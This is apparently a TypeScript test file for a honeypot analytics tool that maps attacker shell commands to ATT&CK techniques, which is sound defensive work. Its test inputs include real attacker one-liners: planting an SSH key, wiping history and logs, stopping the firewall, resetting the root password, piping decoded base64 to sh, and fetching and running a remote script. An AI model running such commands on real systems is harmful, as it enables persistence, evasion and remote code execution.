/**
 * ATT&CK techniques with the rule that showed them (src/analytics/attackRules.json):
 * - the rule data is whole: every rule names a technique that has an ATT&CK name, ids are
 *   unique, every named technique is shown by some rule, the version is stated;
 * - command lines attackers really send (from the corpora and from public write-ups of the
 *   kits: the mdrfckr SSH-key kit, Mirai-style loaders) map to the techniques an analyst
 *   would name, each with its rule;
 * - on every corpus, `dshield-coord techniques` maps every distinct command line to zero or
 *   more techniques through existing rules, and lists those mapped to none;
 * - a Result's campaigns carry `techniques` that agree with their `ttps` and count sessions
 *   consistently (a technique never counts more sessions than its campaign has).
 */
import { describe, expect, test } from "bun:test"
import { existsSync, mkdtempSync, readFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import rules from "../../src/analytics/attackRules.json" with { type: "json" }
import { ATTACK_VERSION, commandTechniques, RULES, TECHNIQUE_NAMES } from "../../src/analytics/attackTechniques.ts"
import { CORPORA, runCli } from "../cli/helpers.ts"

const CORPUS_FILES = ["alvarogar-2022-07", "istec-tpot-2022-06", "kareiva-2018", "radec73-2024-04", "scriptzteam-2017-11"].map((n) => join(CORPORA, `${n}.cowrie.json.gz`))
const HAVE_ALL = CORPUS_FILES.every((f) => existsSync(f))
if (!HAVE_ALL) console.warn(`NOTICE: a corpus of ${CORPORA} is missing; the per-corpus technique checks are SKIPPED.`)

describe("the rule data", () => {
  test("every rule names a technique with an ATT&CK name; ids are unique; every technique has a rule; the version is stated", () => {
    expect(ATTACK_VERSION).toMatch(/^enterprise-attack v\d+/)
    const ids = RULES.map((r) => r.id)
    expect(new Set(ids).size).toBe(ids.length)
    for (const rule of RULES) {
      expect(TECHNIQUE_NAMES[rule.technique]).toBeString()
      expect(rule.technique).toMatch(/^T\d{4}(\.\d{3})?$/)
      expect(rule.why.length).toBeGreaterThan(10)
    }
    expect(Object.keys(TECHNIQUE_NAMES).sort()).toEqual([...new Set(RULES.map((r) => r.technique))].sort())
    // Every command rule compiles as written (a bad pattern would have thrown at import).
    for (const r of rules.command_rules) expect(() => new RegExp(r.pattern, (r as { flags?: string }).flags ?? "")).not.toThrow()
  })
})

describe("command lines attackers send", () => {
  const mapped = (command: string) => commandTechniques(command).map((t) => `${t.technique} ${t.rule}`).sort()

  test("the mdrfckr SSH-key kit: key planted, old keys deleted, permissions locked", () => {
    expect(mapped('cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~')).toEqual([
      "T1070.004 cmd.delete-files",
      "T1098.004 cmd.authorized-keys",
      "T1222.002 cmd.permissions"
    ])
  })

  test("discovery one-liners: CPU, memory, users, processes, files", () => {
    expect(mapped("cat /proc/cpuinfo | grep name | wc -l")).toEqual(["T1082 cmd.system-info"])
    expect(mapped("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'")).toEqual(["T1082 cmd.system-info"])
    expect(mapped("whoami")).toEqual(["T1033 cmd.user"])
    // Looking for a competitor's miner is process discovery, not running a miner.
    expect(mapped("ps -ef | grep '[Mm]iner'")).toEqual(["T1057 cmd.processes"])
    expect(mapped("./xmrig -o stratum+tcp://pool.example:3333")).toEqual(["T1496 cmd.miner"])
    expect(mapped("ls -lh $(which ls)")).toEqual(["T1083 cmd.files"])
    expect(mapped("/ip cloud print")).toEqual(["T1016 cmd.network-config"])
  })

  test("Mirai-style loaders: architecture from a binary's header, writable directories by marker files", () => {
    expect(mapped("dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s")).toEqual(["T1082 cmd.binary-header"])
    expect(mapped("./oinasf; dd if=/proc/self/exe bs=22 count=1 || while read i; do echo $i; done < /proc/self/exe || cat /proc/self/exe;")).toEqual(["T1082 cmd.binary-header"])
    expect(mapped("echo -e '\\x47\\x72\\x6f\\x70/tmp' > /tmp/.nippon; cat /tmp/.nippon; rm -f /tmp/.nippon")).toEqual(["T1083 cmd.writable-dir-probe"])
  })

  test("accounts, history, logs, firewall, sudo, decoding, transfers", () => {
    expect(mapped('echo "root:Xx123"|chpasswd|bash')).toEqual(["T1098 cmd.accounts"])
    expect(mapped("unset HISTFILE; export HISTFILE=/dev/null")).toEqual(["T1070.003 cmd.clear-history"])
    expect(mapped("rm -f /var/log/wtmp")).toEqual(["T1070.002 cmd.clear-logs"])
    expect(mapped("service iptables stop")).toEqual(["T1562.004 cmd.firewall"])
    expect(mapped("sudo /bin/sh")).toEqual(["T1548.003 cmd.sudo"])
    expect(mapped("echo ZWNobyBoaQ== | base64 -d | sh")).toEqual(["T1140 cmd.decode"])
    expect(mapped("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh")).toEqual(["T1105 cmd.download"])
  })

  test("shell-escape words and garbage map to nothing (no technique is invented for them)", () => {
    for (const c of ["enable", "shell", "sh", "system", "/gweerwe323f", "echo Hi | cat -n", ""]) expect(mapped(c)).toEqual([])
  })
})

describe.skipIf(!HAVE_ALL)("the five corpora", () => {
  const dir = mkdtempSync(join(tmpdir(), "dshield-techniques-"))

  test("`techniques` maps every distinct command line through existing rules and lists those mapped to none", () => {
    const run = runCli(["techniques", "--json", join(dir, "t.json"), "--unmapped", "--limit", "5", ...CORPUS_FILES])
    expect(run.code).toBe(0)
    const report = JSON.parse(readFileSync(join(dir, "t.json"), "utf8")) as {
      attack_version: string
      unmapped: number
      commands: Array<{ command: string; sessions: number; techniques: Array<{ technique: string; rule: string }> }>
    }
    expect(report.attack_version).toBe(ATTACK_VERSION)
    expect(report.commands.length).toBeGreaterThan(1000)
    const byId = new Map(RULES.map((r) => [r.id, r]))
    for (const c of report.commands) {
      expect(c.sessions).toBeGreaterThan(0)
      for (const t of c.techniques) expect(byId.get(t.rule)?.technique).toBe(t.technique)
    }
    const unmapped = report.commands.filter((c) => c.techniques.length === 0)
    expect(unmapped.length).toBe(report.unmapped)
    // The printed list is exactly the unmapped ones, most used first.
    expect(run.stdout).toContain(`${report.commands.length} distinct command lines`)
    expect(run.stdout).toContain(`${report.unmapped} map to no technique`)
    const shownLines = run.stdout.trim().split("\n").slice(2, 7)
    expect(shownLines.every((l) => l.includes("  -  "))).toBe(true)
    // Most command lines do map: the rules cover what these honeypots see.
    expect(unmapped.length / report.commands.length).toBeLessThan(0.2)
  }, 120_000)

  test("a Result's campaigns: techniques agree with ttps; counts never exceed the campaign's sessions", () => {
    const out = join(dir, "radec.json")
    expect(runCli(["analyze", CORPUS_FILES[3]!, "--quiet", "--out", out]).code).toBe(0)
    const result = JSON.parse(readFileSync(out, "utf8")) as {
      run: { attack_version?: string }
      campaigns: Array<{ sessions: Array<string>; ttps: Array<string>; techniques: Array<{ id: string; name: string; sessions: number; rules: Array<{ rule: string; sessions: number }> }> }>
    }
    expect(result.run.attack_version).toBe(ATTACK_VERSION)
    expect(result.campaigns.length).toBeGreaterThan(0)
    for (const c of result.campaigns) {
      expect(c.techniques.map((t) => t.id)).toEqual([...c.ttps].sort())
      for (const t of c.techniques) {
        expect(t.name).toBe(TECHNIQUE_NAMES[t.id]!)
        expect(t.sessions).toBeGreaterThan(0)
        expect(t.sessions).toBeLessThanOrEqual(c.sessions.length)
        expect(t.rules.length).toBeGreaterThan(0)
        for (const r of t.rules) {
          expect(RULES.find((x) => x.id === r.rule)?.technique).toBe(t.id)
          expect(r.sessions).toBeLessThanOrEqual(t.sessions)
        }
        // A technique's sessions are those of its rules together: at least its busiest rule's.
        expect(t.sessions).toBeGreaterThanOrEqual(Math.max(...t.rules.map((r) => r.sessions)))
      }
    }
  }, 120_000)
})
